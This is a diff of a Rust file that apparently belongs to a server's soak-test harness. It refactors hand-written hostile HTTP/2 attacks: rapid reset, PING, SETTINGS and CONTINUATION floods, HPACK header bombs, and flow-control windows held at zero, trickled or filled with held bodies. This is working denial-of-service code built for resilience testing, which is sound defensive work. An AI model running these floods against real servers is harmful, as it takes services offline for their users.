@@ -1,25 +1,70 @@
 //! Hostile HTTP/2, in frames written by hand ([RFC 9113](https://www.rfc-editor.org/rfc/rfc9113)).
 
-use std::io::{self, Write};
+use std::io::{self, Write as _};
 use std::net::TcpStream;
 use std::time::Duration;
 
-use super::{Attack, AttackKind, drain};
-use crate::soak::rng::bytes;
+use super::{Attack, AttackKind, after, drain};
+use crate::soak::rng::{Rng, bytes};
 
 pub(super) const KINDS: &[AttackKind] = &[
-    AttackKind::new("h2 windows of 0", windows_of_0),
-    AttackKind::new("h2 windows of a trickle", windows_of_a_trickle),
-    AttackKind::new("h2 rapid reset", rapid_reset),
-    AttackKind::new("h2 pings", pings),
-    AttackKind::new("h2 ping ACKs", ping_acks),
-    AttackKind::new("h2 settings", settings_flood),
-    AttackKind::new("h2 continuations", continuations),
-    AttackKind::new("h2 header bombs", header_bombs),
-    AttackKind::new("h2 empty DATA", empty_data),
-    AttackKind::new("h2 priorities", priorities),
-    AttackKind::new("h2 garbage", garbage),
-    AttackKind::new("h2 bodies held", bodies_held),
+    AttackKind::new("h2 windows of 0", |attack| attack.hold(CONNECTIONS, holder)),
+    AttackKind::new("h2 windows of a trickle", |attack| {
+        let one = numbers(STREAMS).flat_map(|number| frame(WINDOW_UPDATE, 0, number, &1_u32.to_be_bytes()));
+        attack.trickle(CONNECTIONS, holder, &one.collect::<Vec<u8>>(), Duration::from_millis(200))
+    }),
+    AttackKind::new("h2 rapid reset", |attack| {
+        let mut stream = open(attack, 65_535)?;
+        for number in numbers(100_000) {
+            if attack.over() {
+                break;
+            }
+            let cancel = frame(RST_STREAM, 0, number, &8_u32.to_be_bytes());
+            stream.write_all(&[get(number, "/ok"), cancel].concat())?;
+        }
+        drain(&mut stream);
+        Ok(())
+    }),
+    AttackKind::new("h2 pings", |attack| flood(attack, &[], &frame(PING, 0, 0, b"12345678"))),
+    AttackKind::new("h2 ping ACKs", |attack| flood(attack, &[], &frame(PING, ACK, 0, b"12345678"))),
+    AttackKind::new("h2 settings", |attack| flood(attack, &[], &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]))),
+    AttackKind::new("h2 continuations", |attack| {
+        let begun = frame(HEADERS, END_STREAM, 1, &request("GET", "/"));
+        flood(attack, &begun, &frame(CONTINUATION, 0, 1, &field("x-more", &"a".repeat(100))))
+    }),
+    // One entry of the table, named thousands of times in a byte each; a cookie in as many crumbs; a stream of either.
+    AttackKind::new("h2 header bombs", |attack| {
+        let indexed = [&[0x40][..], &field("cookie", &"c".repeat(120))[1..]].concat();
+        let block = [request("GET", "/ok"), indexed, vec![0xbe; 16_000]].concat();
+        let (first, rest) = block.split_at(8_000);
+        let bombs = numbers(STREAMS).flat_map(|number| {
+            [frame(HEADERS, END_STREAM, number, first), frame(CONTINUATION, END_HEADERS, number, rest)]
+        });
+        let bombs: Vec<u8> = bombs.flatten().collect();
+        attack.say(|attack| open(attack, 0), |_| bombs.clone())
+    }),
+    AttackKind::new("h2 empty DATA", |attack| {
+        let begun = frame(HEADERS, END_HEADERS, 1, &request("POST", "/takes"));
+        flood(attack, &begun, &frame(DATA, 0, 1, &[]))
+    }),
+    AttackKind::new("h2 priorities", |attack| flood(attack, &[], &frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 16]))),
+    AttackKind::new("h2 garbage", |attack| {
+        let garbage = |rng: &mut Rng| {
+            let length = rng.usize(..200);
+            let payload = bytes(rng, length);
+            frame(rng.usize(..12) as u8, rng.usize(..256) as u8, rng.usize(..8) as u32, &payload)
+        };
+        attack.say(|attack| open(attack, 65_535), |rng| (0..50).flat_map(|_| garbage(rng)).collect())
+    }),
+    // Bodies on every stream that come to the window's end and stay there.
+    AttackKind::new("h2 bodies held", |attack| {
+        let bodies = numbers(STREAMS).flat_map(|number| {
+            let head = frame(HEADERS, END_HEADERS, number, &request("POST", "/takes"));
+            [head, frame(DATA, 0, number, &[7; 500])].concat()
+        });
+        let bodies: Vec<u8> = bodies.collect();
+        attack.hold(CONNECTIONS, |attack| after(&bodies, open(attack, 65_535)?))
+    }),
 ];
 
 const DATA: u8 = 0;
@@ -69,140 +114,18 @@ fn numbers(count: u32) -> impl Iterator<Item = u32> {
 
 /// A connection with this initial window.
 fn open(attack: &mut Attack<'_>, window: u32) -> io::Result<TcpStream> {
-    let mut stream = attack.dial()?;
-    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
     let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat();
-    stream.write_all(&frame(SETTINGS, 0, 0, &setting))?;
-    stream.write_all(&frame(SETTINGS, ACK, 0, &[]))?;
-    Ok(stream)
+    let settings = [frame(SETTINGS, 0, 0, &setting), frame(SETTINGS, ACK, 0, &[])].concat();
+    after(&[b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &settings[..]].concat(), attack.dial()?)
 }
 
-/// Connections that ask for a large file on every stream and take nothing of it.
-fn holders(attack: &mut Attack<'_>) -> io::Result<Vec<TcpStream>> {
-    attack.gather(CONNECTIONS, |attack| {
-        let mut stream = open(attack, 0)?;
-        numbers(STREAMS).try_for_each(|number| stream.write_all(&get(number, "/large.bin")))?;
-        Ok(stream)
-    })
+/// A connection that asks for a large file on every stream and takes nothing of it.
+fn holder(attack: &mut Attack<'_>) -> io::Result<TcpStream> {
+    let requests: Vec<u8> = numbers(STREAMS).flat_map(|number| get(number, "/large.bin")).collect();
+    after(&requests, open(attack, 0)?)
 }
 
-fn windows_of_0(attack: &mut Attack<'_>) -> io::Result<()> {
-    let held = holders(attack)?;
-    attack.hold(held);
-    Ok(())
-}
-
-fn windows_of_a_trickle(attack: &mut Attack<'_>) -> io::Result<()> {
-    let held = holders(attack)?;
-    let one = numbers(STREAMS).flat_map(|number| frame(WINDOW_UPDATE, 0, number, &1_u32.to_be_bytes()));
-    let one: Vec<u8> = one.collect();
-    attack.trickle(held, &one, Duration::from_millis(200));
-    Ok(())
-}
-
-fn rapid_reset(attack: &mut Attack<'_>) -> io::Result<()> {
-    let mut stream = open(attack, 65_535)?;
-    for number in numbers(100_000) {
-        if attack.over() {
-            break;
-        }
-        let cancel = frame(RST_STREAM, 0, number, &8_u32.to_be_bytes());
-        stream.write_all(&[get(number, "/ok"), cancel].concat())?;
-    }
-    drain(&mut stream);
-    Ok(())
-}
-
-/// The same frames over and over, unread.
-fn frames(attack: &mut Attack<'_>, frames: &[u8]) -> io::Result<()> {
-    while !attack.over() {
-        let mut stream = open(attack, 65_535)?;
-        let _full = attack.flood(&mut stream, &frames.repeat(500));
-    }
-    Ok(())
-}
-
-fn pings(attack: &mut Attack<'_>) -> io::Result<()> {
-    frames(attack, &frame(PING, 0, 0, b"12345678"))
-}
-
-fn ping_acks(attack: &mut Attack<'_>) -> io::Result<()> {
-    frames(attack, &frame(PING, ACK, 0, b"12345678"))
-}
-
-fn settings_flood(attack: &mut Attack<'_>) -> io::Result<()> {
-    frames(attack, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]))
-}
-
-fn priorities(attack: &mut Attack<'_>) -> io::Result<()> {
-    frames(attack, &frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 16]))
-}
-
-fn continuations(attack: &mut Attack<'_>) -> io::Result<()> {
-    while !attack.over() {
-        let mut stream = open(attack, 65_535)?;
-        stream.write_all(&frame(HEADERS, END_STREAM, 1, &request("GET", "/")))?;
-        let more = frame(CONTINUATION, 0, 1, &field("x-more", &"a".repeat(100)));
-        let _refused = attack.flood(&mut stream, &more.repeat(100));
-    }
-    Ok(())
-}
-
-/// One entry of the table, named thousands of times in a byte each; a cookie in as many crumbs; a stream of either.
-fn header_bombs(attack: &mut Attack<'_>) -> io::Result<()> {
-    while !attack.over() {
-        let mut stream = open(attack, 0)?;
-        for number in numbers(STREAMS) {
-            let indexed = [&[0x40][..], &field("cookie", &"c".repeat(120))[1..]].concat();
-            let block = [request("GET", "/ok"), indexed, vec![0xbe; 16_000]].concat();
-            let (first, rest) = block.split_at(8_000);
-            let block =
-                [frame(HEADERS, END_STREAM, number, first), frame(CONTINUATION, END_HEADERS, number, rest)];
-            if stream.write_all(&block.concat()).is_err() {
-                break;
-            }
-        }
-        drain(&mut stream);
-    }
-    Ok(())
-}
-
-fn empty_data(attack: &mut Attack<'_>) -> io::Result<()> {
-    while !attack.over() {
-        let mut stream = open(attack, 65_535)?;
-        stream.write_all(&frame(HEADERS, END_HEADERS, 1, &request("POST", "/takes")))?;
-        let _refused = attack.flood(&mut stream, &frame(DATA, 0, 1, &[]).repeat(1_000));
-    }
-    Ok(())
-}
-
-fn garbage(attack: &mut Attack<'_>) -> io::Result<()> {
-    while !attack.over() {
-        let mut stream = open(attack, 65_535)?;
-        for _ in 0..50 {
-            let length = attack.rng.usize(..200);
-            let payload = bytes(attack.rng, length);
-            let (kind, flags) = (attack.rng.usize(..12) as u8, attack.rng.usize(..256) as u8);
-            let number = attack.rng.usize(..8) as u32;
-            if stream.write_all(&frame(kind, flags, number, &payload)).is_err() {
-                break;
-            }
-        }
-        drain(&mut stream);
-    }
-    Ok(())
-}
-
-/// Bodies on every stream that come to the window's end and stay there.
-fn bodies_held(attack: &mut Attack<'_>) -> io::Result<()> {
-    let held = attack.gather(CONNECTIONS, |attack| {
-        let mut stream = open(attack, 65_535)?;
-        numbers(STREAMS).try_for_each(|number| {
-            stream.write_all(&frame(HEADERS, END_HEADERS, number, &request("POST", "/takes")))?;
-            stream.write_all(&frame(DATA, 0, number, &[7; 500]))
-        })?;
-        Ok(stream)
-    })?;
-    attack.hold(held);
-    Ok(())
+/// After `begun`, the same frames over and over, unread.
+fn flood(attack: &mut Attack<'_>, begun: &[u8], frames: &[u8]) -> io::Result<()> {
+    attack.flood(|attack| after(begun, open(attack, 65_535)?), &frames.repeat(500))
 }
